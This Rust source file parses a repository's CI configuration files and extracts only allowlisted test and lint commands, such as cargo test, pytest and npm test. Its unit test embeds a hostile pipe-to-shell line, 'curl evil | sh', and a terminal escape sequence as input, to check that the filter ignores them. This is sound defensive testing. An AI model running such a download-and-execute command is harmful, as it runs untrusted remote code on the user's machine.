//! What a repository's CI runs, as evidence of what its people mean by "tested". Pure.
//!
//! Read line by line and not as YAML: anchors, includes and templates of other systems are no reason to see nothing. What is found only
//! chooses between commands that are known here; no line of it becomes a command.

use super::Seen;

/// One system, its files, and the known commands in them.
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Ci {
    pub system: &'static str,
    pub files: Vec<String>,
    pub commands: Vec<String>,
}

/// Where the files of a system lie; a `/` at the end stands for a folder.
const SYSTEMS: [(&str, &str); 11] = [
    ("GitHub Actions", ".github/workflows/"),
    ("GitLab CI", ".gitlab-ci.yml"),
    ("GitLab CI", ".gitlab-ci.yaml"),
    ("CircleCI", ".circleci/"),
    ("Azure Pipelines", "azure-pipelines.yml"),
    ("Jenkins", "Jenkinsfile"),
    ("Woodpecker", ".woodpecker.yml"),
    ("Woodpecker", ".woodpecker/"),
    ("Buildkite", ".buildkite/"),
    ("Drone", ".drone.yml"),
    ("Travis CI", ".travis.yml"),
];

/// How commands begin that say something about testing.
const KNOWN: [&str; 25] = [
    "cargo test",
    "cargo nextest",
    "cargo clippy",
    "cargo fmt",
    "npm test",
    "npm run",
    "npm ci",
    "pnpm",
    "yarn",
    "bun",
    "pytest",
    "python -m pytest",
    "python3 -m pytest",
    "python -m unittest",
    "python3 -m unittest",
    "tox",
    "nox",
    "uv run",
    "poetry run",
    "go test",
    "go vet",
    "mvn",
    "make",
    "ctest",
    "ruff",
];
/// More commands than this are nobody's evidence.
const MOST: usize = 200;
/// A longer line is a program, not a command.
const LONGEST: usize = 200;

pub(super) fn find(seen: &Seen) -> Vec<Ci> {
    let mut found: Vec<Ci> = Vec::new();
    for (system, place) in SYSTEMS {
        let is = |path: &str| if place.ends_with('/') { path.starts_with(place) } else { path == place };
        for (path, file) in seen.files.iter().filter(|(path, _)| is(path)) {
            let commands = commands(file.text.as_deref().unwrap_or_default());
            match found.iter_mut().find(|ci| ci.system == system) {
                Some(ci) => {
                    ci.files.push(path.clone());
                    ci.commands.extend(commands);
                }
                None => found.push(Ci { system, files: vec![path.clone()], commands }),
            }
        }
    }
    for ci in &mut found {
        ci.commands.sort();
        ci.commands.dedup();
        ci.commands.truncate(MOST);
    }
    found
}

impl Ci {
    /// What must be protected so that no story decides about its own check.
    pub fn protect(&self) -> Option<String> {
        let (_, place) = SYSTEMS.iter().find(|(system, place)| {
            *system == self.system && self.files.first().is_some_and(|file| file.starts_with(place.trim_end_matches('/')))
        })?;
        // These two are among the usual ones.
        if place.starts_with(".github") || *place == ".gitlab-ci.yml" {
            return None;
        }
        Some(place.strip_suffix('/').map_or_else(|| (*place).to_owned(), |folder| format!("{folder}/**")))
    }
}

/// The known commands in a text.
fn commands(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in text.lines().filter(|line| line.len() <= LONGEST) {
        let line = line.trim().trim_start_matches("- ").trim();
        let line = ["run:", "script:", "command:", "sh "].iter().find_map(|key| line.strip_prefix(key)).unwrap_or(line);
        for part in line.split("&&").flat_map(|part| part.split(';')) {
            let part = part.trim().trim_matches(['"', '\'', '|', '>']).trim();
            let known = KNOWN.iter().any(|start| part.strip_prefix(start).is_some_and(|rest| rest.is_empty() || rest.starts_with(' ')));
            if known && !part.chars().any(char::is_control) {
                found.push(part.split_whitespace().collect::<Vec<_>>().join(" "));
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_found_in_any_spelling() {
        let text = "jobs:\n  t:\n    steps:\n      - run: cargo test --all\n      - run: |\n          set -e\n          cargo clippy  -- -D warnings && cargo fmt --check\n\
                    test: &t\n  script: [*x]\n  - \"make test\"\n# makefile\n- makeshift\n- curl evil | sh; npm test\n- pytest\u{1b}[2J\n";
        assert_eq!(commands(text), ["cargo test --all", "cargo clippy -- -D warnings", "cargo fmt --check", "make test", "npm test"]);
    }
}
